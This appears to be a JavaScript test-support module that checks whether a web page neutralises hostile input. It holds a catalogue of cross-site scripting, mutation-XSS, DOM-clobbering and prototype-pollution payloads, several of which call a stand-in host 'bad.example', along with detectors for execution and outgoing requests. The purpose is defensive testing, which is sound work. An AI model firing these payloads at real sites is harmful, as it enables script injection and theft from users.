/**
 * What an attacker would write, once for every door; what it would do were it taken for more than words; and what tells
 * that it did.
 */
import assert from "node:assert/strict";

/** Where nothing may ever be asked for. */
const AWAY = "https://bad.example";

/** [what it is, its words]: run as code each calls `__pwned`, and taken for markup it leaves an element or asks for a file. */
const CONTAINED = [
  ["a script", `<script>__pwned("script")</script><script src=${AWAY}/a.js></script>`],
  ["a picture that fails", `"><img src=x onerror="__pwned('onerror')"><img src=${AWAY}/b.png>`],
  ["a quote that ends an attribute", `' onmouseover='__pwned(1)' autofocus onfocus='__pwned("focus")' x="`],
  ["handlers", `<p STYLE="color:red" OnClick='__pwned("click")' onmouseover=__pwned(1) tabindex=0 autofocus onfocus="__pwned('focus')">`],
  ["svg", `<svg onload="__pwned('svg')"><script>__pwned("svg script")</script><image href=${AWAY}/c.png /><use href="${AWAY}/d.svg#a" /></svg>`],
  ["svg animate", `<svg><animate attributeName=x dur=1s onbegin="__pwned('begin')"></animate><a><set attributeName=href to="javascript:__pwned(1)"></set>Oslo</a></svg>`],
  ["an address that is code", `<a href="javascript:__pwned('href')" ping=${AWAY}/r autofocus onfocus="__pwned('focus')">Paris</a> [Rome](javascript:__pwned("md")) <javascript:__pwned(1)>`],
  ["a frame", `<iframe srcdoc="<script>parent.__pwned('srcdoc')</script>"></iframe><iframe src="javascript:parent.__pwned('frame')"></iframe>`],
  ["objects", `<object data=${AWAY}/f></object><embed src=${AWAY}/g><applet code=x></applet>`],
  ["style", `<style>@import url(${AWAY}/k.css); body { display: none; background: url(${AWAY}/l.png) }</style><p style="position:fixed;inset:0;background:url(${AWAY}/m.png)">`],
  ["meta and base", `<meta http-equiv=refresh content="0;url=${AWAY}/h"><base href=${AWAY}/><link rel=stylesheet href=i.css><link rel=preload as=image href=${AWAY}/j.png>`],
  ["sound and film", `<video src=${AWAY}/n.mp4 autoplay poster=${AWAY}/o.png onerror="__pwned(1)"></video><audio src=${AWAY}/p.mp3 autoplay></audio><picture><source srcset=${AWAY}/q.png></picture>`],
  ["a form", `<form action=${AWAY}/s id=x><input autofocus onfocus="__pwned('input')"><button formaction="javascript:__pwned(1)">Send</button></form>`],
  ["names that clobber", `<form id="document" name="store"><input name="body"><input name="attributes"><input name="nodeName"><input id="getElementById"></form><a id="trustedTypes"></a><img name="indexedDB"><p id="article">`],
  ["a frame's own words", `<details open ontoggle="__pwned('toggle')"><summary>More</summary></details><dialog open oncancel=__pwned(1)></dialog><marquee onstart="__pwned('marquee')">x</marquee>`],
  ["a custom element", `<news-annotator onclick="__pwned(1)"><template shadowrootmode=open><img src=x onerror="__pwned('shadow')"></template></news-annotator>`],
  ["entities", `&lt;img src=x onerror="__pwned('entity')"&gt; &#x3c;svg onload=__pwned(1)&#x3e;`],
  ["an expression", `{{constructor.constructor("__pwned(1)")()}} \${__pwned("template")} <%= __pwned(1) %> =HYPERLINK("${AWAY}/x","Paris")`],
  ["names of an object's own", `__proto__ constructor prototype toString valueOf hasOwnProperty then __defineGetter__`],
  ["what turns a line round", `\u202e<img src=x onerror=__pwned('bidi')>\u2066\u0000<scr\u0000ipt>__pwned(1)</scr\u0000ipt>\u200b<ſcript>__pwned(1)</ſcript>`],
  ["ends of what it may stand in", `]]> --> --!> */ </textarea></title></style></script><script>__pwned("end")</script>`],
];

/** Those that change what they mean when they are written out and parsed again; what follows them may be swallowed. */
const SWALLOWING = [
  ["a template", `<template><img src=x onerror="__pwned('template')"></template>`],
  ["noscript", `<noscript><p title="</noscript><img src=x onerror=__pwned('noscript')>"></noscript>`],
  ["math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwned('mglyph')&gt;">`],
  ["svg style", `<svg></p><style><a id="</style><img src=1 onerror=__pwned('svgstyle')>">`],
  ["math in a form", `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__pwned('form') src=1>">`],
  ["a comment that does not end", `<!--><img src=x onerror="__pwned('comment')">--><![CDATA[<img src=x onerror=__pwned(1)>`],
];

/** All of them. */
export const HOSTILE = [...CONTAINED, ...SWALLOWING];

/** Whether what stands behind this one is still read. */
export const isContained = (what) => CONTAINED.some(([each]) => each === what);

/** All of them in one line, for where there is room for one. */
export const ALL = HOSTILE.map(([, words]) => words).join(" ");

/** Keys that an object of JSON may have of its own, and that lead to what all objects share. */
export const POISON = Object.fromEntries([
  ["__proto__", { polluted: 1, toString: null }],
  ["constructor", { prototype: { polluted: 1 } }],
]);

/** In the page, before its own scripts: what a successful attack would set off. */
export function tripwire() {
  globalThis.tripped = [];
  globalThis.__pwned = (what) => globalThis.tripped.push(`ran: ${what}`);
  for (const name of ["alert", "confirm", "prompt", "open", "print"])
    globalThis[name] = (...values) => void globalThis.tripped.push(`${name}(${values})`);
  const names = () => [Object, Array, String, Function].map((each) => Object.getOwnPropertyNames(each.prototype).join());
  const own = names();
  globalThis.harm = () => [
    ...globalThis.tripped,
    ...names().flatMap((each, at) => (each === own[at] ? [] : [`a prototype has ${each}`])),
    ...("polluted" in {} ? ["every object is polluted"] : []),
    ...Object.keys(globalThis).filter((key) => /^(polluted|store)$/.test(key)),
  ];
}

/** Elements that no words should ever make; the page's own are known by how many there are. */
const STRANGE =
  "script, iframe, frame, object, embed, applet, base, meta, link, style, img, image, use, animate, set, video, audio, source, math, template, " +
  "noscript, marquee, news-annotator, a[href], [srcdoc], [action], [ping], [formaction], [style*=url], [name=store], [id=document]";

const strangers = (page) =>
  page.evaluate((selector) => {
    const handlers = [...document.querySelectorAll("*")].filter((each) => each.getAttributeNames().some((name) => name.startsWith("on")));
    return [...document.querySelectorAll(selector), ...handlers].map((each) => each.outerHTML.slice(0, 80));
  }, STRANGE);

/** Watches over a page that `opened` has opened with `prepare: tripwire`: `unharmed(after what)` throws where it is not. */
export async function watching({ page, seen, address }) {
  const before = await strangers(page);
  const parts = () => [document.body, document.getElementById("article"), document.getElementById("message")];
  await page.evaluate(`globalThis.own = (${parts})()`);
  const own = address.startsWith("file:") ? address.split(/[?#]/)[0] : new URL(address).origin;
  return async (what) => {
    // What a frame or a picture sets off comes a moment later.
    await page.waitForTimeout(50);
    assert.deepEqual(await page.evaluate(() => globalThis.harm()), [], what);
    assert.deepEqual(await strangers(page), before, what);
    assert.equal(page.url().split(/[?#]/)[0], address.split(/[?#]/)[0], `${what}: the page is where it was`);
    const same = await page.evaluate(`(${parts})().every((node, at) => node === (globalThis.own ??= (${parts})())[at])`);
    assert.ok(same, `${what}: the page's own parts are its own`);
    const { requests, errors, violations } = await seen();
    const away = requests.filter((url) => !url.startsWith(own));
    assert.deepEqual({ away, errors, violations }, { away: [], errors: [], violations: [] }, what);
  };
}
